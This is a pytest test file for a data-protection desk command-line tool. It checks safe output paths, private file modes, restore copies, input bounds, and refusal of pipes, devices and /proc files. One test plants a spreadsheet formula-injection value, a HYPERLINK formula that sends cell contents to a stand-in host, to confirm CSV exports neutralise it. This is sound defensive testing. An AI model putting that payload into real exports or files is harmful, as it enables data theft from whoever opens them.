"""Issue 13 by the real program: no `--out` replaces the open database (by its name, its
-wal or -shm, or a link), restore keeps every copy, hostile inputs and arguments are exit 2
naming what is wrong, never a traceback or a hang, and CSV exports hold no formula."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from pathlib import Path

import pytest

pytestmark = pytest.mark.skipif(os.name != "posix", reason="POSIX links, modes and FIFOs")


@pytest.fixture(scope="module")
def demo_db(tmp_path_factory) -> Path:
    """The demo company with a few complaints (made once; each test works on a copy)."""
    import subprocess
    import sys

    path = tmp_path_factory.mktemp("demo") / "demo.sqlite3"
    subprocess.run([sys.executable, "-m", "dpo_desk", "demo", "--complaints", "3", "--db",
                    str(path)], check=True, capture_output=True, timeout=300)
    return path


@pytest.fixture
def db(demo_db, tmp_path) -> Path:
    from tests.fuzz_profiles import accept_put_back

    copy = tmp_path / "desk.sqlite3"
    copy.write_bytes(demo_db.read_bytes())
    accept_put_back(copy)  # the same database again: an older state put back on purpose
    return copy


def first_id(run, db, group: str) -> str:
    return str(json.loads(run(group, "list", "--json", db=db).stdout)[-1]["id"])


def commands(run, db) -> dict[str, list]:
    incident, case = first_id(run, db, "incidents"), first_id(run, db, "complaints")
    return {
        "packet": ["packet", "--incident", incident, "--out"],
        "letter": ["letter", "acknowledge", "--complaint", case, "--out"],
        "notice": ["letter", "authority", "--incident", incident, "--draft", "--out"],
        "report": ["report", "register", "--out"],
        "register csv": ["register", "export", "--out"],
        "register json": ["register", "export", "--format", "json", "--out"],
        "complaints": ["complaints", "export", "--format", "csv", "--out"],
        "incidents": ["incidents", "export", "--out"],
        "backup": ["backup", "--out"],
    }


def test_no_out_replaces_the_open_database(run, db, tmp_path):
    link = tmp_path / "report.pdf"
    link.symlink_to(db)
    targets = [db, Path(f"{db}-wal"), Path(f"{db}-shm"), link]
    inode = os.stat(db).st_ino
    for name, argv in commands(run, db).items():
        for target in targets:
            result = run(*argv, target, db=db)
            assert result.returncode == 2, (name, target, result.stdout)
            assert "open database" in result.stderr, (name, target, result.stderr)
    assert os.stat(db).st_ino == inode and link.is_symlink()
    assert run("check", db=db).returncode == 0
    subjects = ["letter", "subjects", "--incident", first_id(run, db, "incidents"), "--draft",
                "--out", tmp_path / "subjects.pdf", "--public-text", link]
    result = run(*subjects, db=db)
    assert result.returncode == 2 and "open database" in result.stderr
    assert not (tmp_path / "subjects.pdf").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["desk.sqlite3", "report.pdf"]


def test_every_out_is_private(run, db, tmp_path):
    os.chmod(tmp_path, 0o755)
    for name, argv in commands(run, db).items():
        out = tmp_path / f"{name.replace(' ', '-')}.out"
        result = run(*argv, out, db=db)
        assert result.returncode == 0, (name, result.stderr)
        assert stat.S_IMODE(out.stat().st_mode) == 0o600, name


def test_two_restores_keep_both_copies(run, db, tmp_path):
    saved = tmp_path / "saved.sqlite3"
    assert run("backup", "--out", saved, db=db).returncode == 0
    kept = []
    for name in ("Lần một", "Lần hai"):
        assert run("settings", "set", "company_name", name, db=db).returncode == 0
        result = run("restore", saved, db=db)
        assert result.returncode == 0, result.stderr
        kept.append(Path(result.stdout.split("kept as ")[1].strip()))
    assert kept[0] != kept[1] and all(p.exists() for p in kept)
    names = [json.loads(run("settings", "show", "--json", db=p).stdout)["company_name"]
             for p in kept]
    assert names == ["Lần một", "Lần hai"]


def test_csv_exports_hold_no_formula(run, db, tmp_path):
    evil = tmp_path / "case.json"
    evil.write_text(json.dumps({
        "received_on": "2026-03-02", "channel": "email", "kind": "access",
        "requester_name": "=HYPERLINK(\"http://x.example/?\"&A1)", "complexity": "simple",
        "requester_contact": "@evil", "summary": "+1 -1"}), encoding="utf-8")
    assert run("complaints", "add", "--from-json", evil, db=db).returncode == 0
    out = tmp_path / "cases.csv"
    assert run("complaints", "export", "--format", "csv", "--out", out, db=db).returncode == 0
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert "'=HYPERLINK(\"http://x.example/?\"&A1)" in rows[-1]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
               for row in rows for cell in row)


@pytest.mark.parametrize(("argv", "named"), [
    (["deadline", "--received", "9999-12-31", "--days", "7"], "--received"),
    (["deadline", "--received", "1899-12-31", "--days", "7"], "--received"),
    (["deadline", "--received", "2026-03-02", "--days", "3651"], "--days"),
    (["deadline", "--received", "2026-03-02", "--days", "0"], "--days"),
    (["deadline", "--received", "2026-03-02", "--days", "99999999999"], "--days"),
    (["report", "complaints", "--from", "1900-01-01", "--to", "2200-12-31", "--out", "r.pdf"],
     "--from"),
    (["report", "incidents", "--from", "2026-01-01", "--to", "9999-12-31", "--out", "r.pdf"],
     "--to"),
    (["holidays", "add-off", "9999-12-31", "Tết"], "date"),
])
def test_dates_and_days_out_of_bounds_are_exit_2(run, db, argv, named):
    result = run(*argv, db=db)
    assert result.returncode == 2, result.stdout
    assert f"error: {named}:" in result.stderr


def test_hostile_inputs_are_refused_without_hanging(run, db, tmp_path):
    fifo = tmp_path / "case.json"
    os.mkfifo(fifo)
    inputs = {
        "a pipe": [["complaints", "add", "--from-json", fifo],
                   ["register", "import", fifo], ["verify-packet", fifo],
                   ["settings", "import", fifo]],
        "a device": [["incidents", "add", "--from-json", "/dev/zero"],
                     ["complaints", "attach", "1", "/dev/zero"],
                     ["verify-packet", "/dev/zero"]],
        "a folder": [["register", "add", "--from-json", tmp_path]],
    }
    for said, argvs in inputs.items():
        for argv in argvs:
            result = run(*argv, db=db)  # `run` times out: a hang fails the test
            assert result.returncode == 2, (argv, result.stdout)
            assert f"{said}, not a regular file" in result.stderr, (argv, result.stderr)
    if Path("/proc/self/status").exists():
        result = run("complaints", "add", "--from-json", "/proc/self/status", db=db)
        assert result.returncode == 2 and "/proc" in result.stderr


def test_a_summary_past_its_limit_is_exit_2_naming_it(run, db, tmp_path):
    case = {"received_on": "2026-03-02", "channel": "email", "kind": "access",
            "requester_name": "Lê Văn Tám", "complexity": "simple", "summary": "x" * 20_001}
    source = tmp_path / "case.json"
    source.write_text(json.dumps(case), encoding="utf-8")
    result = run("complaints", "add", "--from-json", source, db=db)
    assert result.returncode == 2
    assert "summary: Too long (at most 20000 characters)" in result.stderr
    source.write_text(json.dumps({**case, "summary": "x" * 20_000}), encoding="utf-8")
    case_id = run("complaints", "add", "--from-json", source, db=db).stdout.strip()
    reply = tmp_path / "reply.txt"
    reply.write_text("x" * 100_001, encoding="utf-8")
    result = run("complaints", "status", case_id, "answered", "--reply-file", reply, db=db)
    assert result.returncode == 2 and "reply_text: Too long" in result.stderr


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")
def test_a_database_left_readable_is_narrowed_and_said_once(run, tmp_path):
    path = tmp_path / "desk.sqlite3"
    assert run("init", "--no-encryption", db=path).returncode == 0
    os.chmod(path, 0o644)
    first = run("check", db=path)
    assert first.returncode == 0, first.stderr
    assert "now private (mode 0600)" in first.stderr and str(path) in first.stderr
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    again = run("check", db=path)
    assert again.returncode == 0 and "now private" not in again.stderr
